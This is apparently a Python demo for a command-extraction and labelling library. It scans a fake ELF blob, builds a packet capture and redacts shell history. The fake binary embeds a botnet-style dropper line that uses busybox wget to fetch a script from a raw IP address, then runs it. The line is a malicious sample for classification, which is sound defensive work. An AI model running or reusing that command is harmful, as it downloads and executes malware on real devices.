"""Pull shell commands out of a fake ELF blob, a packet capture and a text list."""

import struct

from shellgate.corpus import (Label, PcapStats, default_rules, extract_pcap_payloads, load_text_commands,
                              match_commands, redact, scan_strings)

# A binary is just bytes; commands hide among library names and padding.
blob = (b"\x7fELF\x01\x01\x01" + bytes(9)
        + b"libc.so.0\x00GLIBC_2.0\x00"
        + b"cd /tmp || cd /var/run || cd /mnt\x00"
        + b"\x01busybox wget http://45.95.168.12/bins.sh; chmod 777 bins.sh; sh bins.sh\x00"
        + b"/bin/busybox ECCHI\x00"
        + b"GET /cdn-cgi/l/chk_captcha?id=1 HTTP/1.1\x00")

runs = scan_strings(blob, min_len=5)
print(f"{len(runs)} printable runs")
for r in runs:
    print(f"  @{r.offset:3d}  {r.bytes!r}")

# Only runs matching an extraction rule become commands; the first rule in order wins.
commands = match_commands(runs, default_rules(), Label.MALICIOUS, "demo.bin")
print(f"\n{len(commands)} commands")
for c in commands:
    print(f"  [{c.rule_id}] {c.text.decode()}")


# Packet captures: plaintext TCP payloads become benign commands, TLS records are dropped.
def frame(payload):
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40 + len(payload), 1, 0, 64, 6, 0,
                     bytes([10, 0, 0, 2]), bytes([93, 184, 216, 34]))
    tcp = struct.pack("!HHIIBBHHH", 50000, 80, 1, 0, 5 << 4, 0x18, 65535, 0, 0)
    return bytes(6) + bytes(6) + b"\x08\x00" + ip + tcp + payload


records = [frame(b"GET /favicon.ico HTTP/1.1\r\nHost: example.org\r\n\r\n"),
           frame(b"\x17\x03\x03\x00\x20" + bytes(range(200, 232))),
           frame(b"")]
capture = struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65535, 1)
for rec in records:
    capture += struct.pack("<IIII", 0, 0, len(rec), len(rec)) + rec

stats = PcapStats()
payloads = extract_pcap_payloads(capture, stats=stats)
print(f"\npcap: {stats.records} records, {len(payloads)} kept, {stats.filtered} filtered as non-plaintext")
print("  " + repr(payloads[0].text))

# Volunteered shell history is one command per line; redaction masks user names and IPv4 addresses.
history = b"ssh pi@192.168.1.20\ngit pull origin main\ncurl -u alice https://intranet/api\nls /home/alice/src\n"
for c in load_text_commands(history, Label.BENIGN, "history.txt"):
    print(f"  {c.text.decode():40s} -> {redact(c).text.decode()}")
